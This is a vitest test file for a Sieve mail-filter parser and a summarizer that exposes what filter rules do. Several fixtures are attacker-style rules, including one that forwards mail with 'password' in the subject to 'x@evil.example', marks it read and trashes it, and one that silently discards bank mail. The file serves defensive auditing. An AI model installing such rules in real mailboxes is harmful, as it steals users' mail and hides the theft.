import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseSieve, summarizeSieve, type SieveCommand } from '../../../connectors/imap/sieve-parser.js';

function parseOk(src: string): SieveCommand[] {
  const r = parseSieve(src);
  if (!r.ok) throw new Error(`line ${r.line}: ${r.error}`);
  return r.commands;
}

describe('parseSieve: grammar', () => {
  it('reads commands, tags, numbers with quantifiers, strings, string lists, tests and blocks', () => {
    const cmds = parseOk(`require ["fileinto", "copy"];
if size :over 100K { discard; }
if header :contains ["Subject", "X-Tag"] ["a", "b\\"c"] { fileinto :copy "Arch\\\\ive"; }
`);
    expect(cmds).toHaveLength(3);
    expect(cmds[0]).toMatchObject({ name: 'require', args: [{ type: 'string-list', values: ['fileinto', 'copy'] }], line: 1 });
    expect(cmds[1]!.tests[0]).toMatchObject({ name: 'size', args: [{ type: 'tag', name: 'over' }, { type: 'number', value: 102_400 }] });
    expect(cmds[1]!.block).toEqual([{ name: 'discard', args: [], tests: [], line: 2 }]);
    expect(cmds[2]!.tests[0]!.args[2]).toEqual({ type: 'string-list', values: ['a', 'b"c'] });
    expect(cmds[2]!.block![0]).toMatchObject({ name: 'fileinto', args: [{ type: 'tag', name: 'copy' }, { type: 'string', value: 'Arch\\ive' }], line: 3 });
    expect(parseOk('if size :under 2M { stop; } if size :over 1G { stop; }').map((c) => c.tests[0]!.args[1])).toEqual([
      { type: 'number', value: 2 * 1024 ** 2 },
      { type: 'number', value: 1024 ** 3 },
    ]);
  });

  it('reads text: strings with dot-stuffing and a comment after text:, and counts their lines', () => {
    const cmds = parseOk(
      'require "vacation";\r\nvacation :days 3 text: # the reason\r\nI am away.\r\n..hidden dot\r\n.\r\n;\r\nredirect "x@example.net";\r\n',
    );
    expect(cmds[1]).toMatchObject({ name: 'vacation', args: [{ type: 'tag', name: 'days' }, { type: 'number', value: 3 }, { type: 'string', value: 'I am away.\r\n.hidden dot\r\n' }] });
    expect(cmds[2]).toMatchObject({ name: 'redirect', line: 7 });
  });

  it('skips # and /* */ comments, including multi-line ones, keeping line numbers right', () => {
    const cmds = parseOk('# a comment\n/* a\n  long\n  comment */ keep; # trailing\n\ndiscard;');
    expect(cmds.map((c) => [c.name, c.line])).toEqual([
      ['keep', 4],
      ['discard', 6],
    ]);
  });

  it('reads nested if/elsif/else and test lists with anyof/allof/not', () => {
    const cmds = parseOk(`if anyof (header :is "from" "a@x", not allof (exists "x-a", true)) {
  if address :domain "to" "party.example" { keep; } elsif true { stop; } else { discard; }
} else { keep; }`);
    expect(cmds.map((c) => c.name)).toEqual(['if', 'else']);
    const anyof = cmds[0]!.tests[0]!;
    expect(anyof.name).toBe('anyof');
    expect(anyof.tests.map((t) => t.name)).toEqual(['header', 'not']);
    expect(anyof.tests[1]!.tests[0]!.tests.map((t) => t.name)).toEqual(['exists', 'true']);
    expect(cmds[0]!.block!.map((c) => c.name)).toEqual(['if', 'elsif', 'else']);
  });

  it('reports errors with their line, and never throws', () => {
    expect(parseSieve('keep;\nredirect "x"')).toEqual({ ok: false, error: 'expected ";" or "{" after "redirect", found the end of the script', line: 2 });
    expect(parseSieve('if true {\n keep;\n')).toMatchObject({ ok: false, line: 3 });
    expect(parseSieve('keep;\n"unterminated')).toMatchObject({ ok: false, error: 'unterminated string', line: 2 });
    expect(parseSieve('vacation text:\nno end\n')).toMatchObject({ ok: false, line: 1 });
    expect(parseSieve('/* open')).toMatchObject({ ok: false, error: 'unterminated /* comment' });
    expect(parseSieve('redirect @;')).toMatchObject({ ok: false, line: 1 });
    expect(parseSieve('if header :is ["a", ] "b" { keep; }')).toMatchObject({ ok: false });
    expect(parseSieve(42 as unknown as string)).toMatchObject({ ok: false });
  });

  it('bounds hostile scripts: nesting, length and token count', () => {
    const deepBlocks = `${'if true {'.repeat(10_000)}${'}'.repeat(10_000)}`;
    expect(parseSieve(deepBlocks)).toMatchObject({ ok: false, error: expect.stringContaining('nested deeper') });
    const deepTests = `if ${'not '.repeat(10_000)}true { keep; }`;
    expect(parseSieve(deepTests)).toMatchObject({ ok: false, error: expect.stringContaining('nested deeper') });
    const deepLists = `if ${'anyof('.repeat(10_000)}true${')'.repeat(10_000)} { keep; }`;
    expect(parseSieve(deepLists)).toMatchObject({ ok: false, error: expect.stringContaining('nested deeper') });
    expect(parseSieve('keep;'.repeat(300_000))).toMatchObject({ ok: false, error: expect.stringContaining('longer than') });
    expect(parseSieve('keep;'.repeat(1000), { maxTokens: 100 })).toMatchObject({ ok: false, error: expect.stringContaining('tokens') });
  });

  it('never throws and always terminates on arbitrary input', () => {
    const sieveish = fc.stringMatching(/^[a-z:"\\{}[\]();,#/*.\n\r 0-9KMG]{0,200}$/);
    const pieces = fc.array(
      fc.constantFrom('if', 'elsif', 'else', 'anyof', 'not', '(', ')', '{', '}', '[', ']', ',', ';', ':copy', '"x"', 'text:\n', '.\n', '..x\n', '/*', '*/', '#', '\n', '12K', 'redirect', 'true'),
      { maxLength: 60 },
    );
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 300 }), sieveish, pieces.map((p) => p.join(' '))), (src) => {
        const r = parseSieve(src);
        expect(typeof r.ok).toBe('boolean');
        if (r.ok) summarizeSieve(r.commands);
        else expect(r.line).toBeGreaterThanOrEqual(1);
      }),
      { numRuns: 3000 },
    );
  });
});

describe('summarizeSieve', () => {
  it('a plain redirect cancels the implicit keep; :copy keeps a copy', () => {
    const plain = summarizeSieve(parseOk('redirect "attacker@example.net";')).rules;
    expect(plain).toEqual([
      expect.objectContaining({ index: 1, summary: 'always', conditions: [], redirect_to: ['attacker@example.net'], keep_copy: false, delete: false, mark_as_read: false, stop_processing: false }),
    ]);
    const copy = summarizeSieve(parseOk('require ["copy"]; redirect :copy "attacker@example.net";'));
    expect(copy.requires).toEqual(['copy']);
    expect(copy.rules[0]).toMatchObject({ redirect_to: ['attacker@example.net'], keep_copy: true });
    expect(copy.rules[0]!.actions).toEqual([{ name: 'redirect', line: 1, target: 'attacker@example.net', copy: true }]);
  });

  it('maps the hiding actions: discard, fileinto, \\Seen flags, stop', () => {
    const src = `require ["fileinto", "imap4flags"];
if header :contains "subject" "password" {
  redirect "x@evil.example";
  addflag "\\\\Seen";
  fileinto "Trash";
  stop;
}
if header :contains "from" "bank" { discard; }
if true { fileinto :flags "\\\\Flagged \\\\Seen" "Archive"; }
setflag "flagvar" "\\\\Answered";
`;
    const { rules } = summarizeSieve(parseOk(src));
    expect(rules).toHaveLength(4);
    expect(rules[0]).toMatchObject({
      index: 1,
      line: 3,
      summary: 'header :contains "subject" "password"',
      redirect_to: ['x@evil.example'],
      keep_copy: true,
      move_to_folder: 'Trash',
      mark_as_read: true,
      stop_processing: true,
      delete: false,
    });
    expect(rules[1]).toMatchObject({ summary: 'header :contains "from" "bank"', delete: true, keep_copy: false, redirect_to: [] });
    expect(rules[1]).not.toHaveProperty('move_to_folder');
    expect(rules[2]).toMatchObject({ summary: 'true', move_to_folder: 'Archive', mark_as_read: true });
    expect(rules[3]).toMatchObject({ summary: 'always', mark_as_read: false, actions: [{ name: 'setflag', line: 10, flags: ['\\Answered'] }] });
  });

  it('gives elsif and else branches the negation of the branches before them, nested under outer conditions', () => {
    const src = `if address :domain :is "from" "party.example" {
  if header :contains "subject" "a" { fileinto "A"; }
  elsif anyof (header :contains "subject" "b", size :over 1M) { redirect "b@x.example"; }
  else { discard; }
}`;
    const { rules } = summarizeSieve(parseOk(src));
    const outer = 'address :domain :is "from" "party.example"';
    expect(rules.map((r) => r.conditions)).toEqual([
      [outer, 'header :contains "subject" "a"'],
      [outer, 'not header :contains "subject" "a"', 'anyof(header :contains "subject" "b", size :over 1048576)'],
      [outer, 'not header :contains "subject" "a"', 'not anyof(header :contains "subject" "b", size :over 1048576)'],
    ]);
    expect(rules[1]!.summary).toBe(`${outer} and not header :contains "subject" "a" and anyof(header :contains "subject" "b", size :over 1048576)`);
  });

  it('leaves out what runs after stop, lists vacation and reject, and reports includes', () => {
    const src = `require ["vacation", "reject", "include"];
include :personal "helper";
include :global :optional "org";
if header :is "x-a" "1" { reject text:
Go away.
.
; }
vacation :subject "Away" :days 2 "I am away";
stop;
redirect "never@example.net";`;
    const s = summarizeSieve(parseOk(src));
    expect(s.includes).toEqual([
      { script: 'helper', location: 'personal', optional: false, conditions: [] },
      { script: 'org', location: 'global', optional: true, conditions: [] },
    ]);
    expect(s.rules).toHaveLength(2);
    expect(s.rules[0]).toMatchObject({ reject: true, keep_copy: false, actions: [{ name: 'reject', target: 'Go away.' }] });
    expect(s.rules[1]).toMatchObject({ vacation: true, stop_processing: true, redirect_to: [], actions: [{ name: 'vacation', target: 'I am away' }, { name: 'stop' }] });
  });

  it('keeps the value of tagged arguments out of the target (redirect :notify, fileinto :flags)', () => {
    const { rules } = summarizeSieve(parseOk('redirect :notify "never" :ret "hdrs" "a@x.example"; fileinto :specialuse "\\\\Junk" "Spam";'));
    expect(rules[0]!.redirect_to).toEqual(['a@x.example']);
    expect(rules[0]!.move_to_folder).toBe('Spam');
  });

  it('bounds the condition summary of huge tests', () => {
    const many = Array.from({ length: 500 }, (_, i) => `"value-${i}"`).join(', ');
    const { rules } = summarizeSieve(parseOk(`if header :contains "subject" [${many}] { discard; }`));
    expect(rules[0]!.summary.length).toBeLessThanOrEqual(1001);
  });
});
